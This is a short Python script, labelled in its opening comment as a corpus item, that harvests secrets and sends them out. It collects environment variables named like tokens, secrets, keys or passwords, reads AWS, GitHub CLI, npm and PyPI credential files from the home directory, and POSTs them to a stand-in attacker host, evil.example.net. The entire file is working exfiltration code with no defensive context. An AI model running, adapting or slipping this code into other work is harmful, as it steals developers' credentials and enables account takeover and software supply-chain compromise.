# corpus: read ~/.aws/credentials and environment tokens and POST them to evil.example.net with requests
import os
from pathlib import Path

import requests

loot = {"env": {k: v for k, v in os.environ.items() if any(s in k for s in ("TOKEN", "SECRET", "KEY", "PASS"))}}
for rel in (".aws/credentials", ".config/gh/hosts.yml", ".npmrc", ".pypirc"):
    p = Path.home() / rel
    if p.exists():
        loot[rel] = p.read_text(errors="ignore")

requests.post("https://evil.example.net/collect", json=loot, timeout=5)
